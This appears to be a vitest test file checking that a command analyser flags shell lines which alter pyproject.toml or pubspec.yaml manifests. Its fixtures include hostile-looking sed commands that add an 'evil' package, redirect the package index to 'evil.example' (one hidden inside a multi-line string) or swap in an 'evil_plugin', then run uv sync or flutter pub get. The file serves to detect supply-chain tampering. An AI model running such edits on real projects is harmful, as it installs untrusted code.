import { describe, expect, test } from 'vitest'
import { effectLines } from '../../testing/effect-lines.ts'

const machine = {
  files: {
    '/w/pyproject.toml': `[project]
name = "a"
requires-python = ">=3.11"
dependencies = ["django>=5"]
[tool.uv]
index-url = "https://pypi.org/simple"
[tool.ruff]
line-length = 100
[tool.mypy]
plugins = ["mypy_django_plugin.main"]
`,
    '/w/pubspec.yaml': 'name: a\nenvironment: {sdk: ^3.3.0}\ndependencies: {riverpod: ^2.5.0}\n',
  },
}

describe('what a line changes of a manifest', () => {
  test.each([
    ['settings of a tool', "sed -i 's/= 100/= 120/' pyproject.toml && uv sync", 'manifest pyproject.toml'],
    ['settings of another tool', "printf '[tool.coverage.run]\\nbranch = true\\n' >> pyproject.toml && uv sync", 'manifest pyproject.toml'],
    ['the versions of Python that it runs on', "sed -i 's/3.11/3.12/' pyproject.toml && uv sync", 'manifest pyproject.toml'],
    ['a package', `sed -i 's/"django/"evil", "django/' pyproject.toml && uv sync`, 'brought pyproject.toml'],
    ['where packages come from', "sed -i 's/pypi.org/evil.example/' pyproject.toml && uv sync", 'brought pyproject.toml'],
    [
      'a list of tables that hides one',
      'printf \'[[tool.uv.index]]\\nurl = "https://a.test"\\n[[tool.ruff.x]]\\n\' >> pyproject.toml && uv sync',
      'brought pyproject.toml',
    ],
    [
      'a table in a text',
      `sed -i 's#^index.*#x = """\\n[tool.ruff]\\n"""\\nindex-url = "https://evil.example"#' pyproject.toml && uv sync`,
      'brought pyproject.toml',
    ],
    ['its name', "sed -i 's/^name: a/name: b/' pubspec.yaml && flutter pub get", 'manifest pubspec.yaml'],
    ['its assets', "printf 'flutter:\\n  assets: [icons/]\\n' >> pubspec.yaml && flutter pub get", 'manifest pubspec.yaml'],
    ['a package of Dart', "sed -i 's/{riverpod/{evil: any, riverpod/' pubspec.yaml && flutter pub get", 'brought pubspec.yaml'],
  ])('%s', (_name, line, expected) => expect(effectLines(line, machine)).toContain(`install:${expected}`))
})

describe('plugins in settings that the line changes', () => {
  const doubts = (line: string): readonly string[] => effectLines(line, machine).filter((effect) => effect.startsWith('unknown: plugin'))
  test('the one that was there', () => expect(doubts("sed -i 's/= 100/= 120/' pyproject.toml && mypy .")).toEqual([]))
  test('another one', () =>
    expect(doubts("sed -i 's/mypy_django_plugin.main/evil_plugin/' pyproject.toml && mypy .")).toEqual([
      'unknown: plugin evil_plugin is not described',
    ]))
})
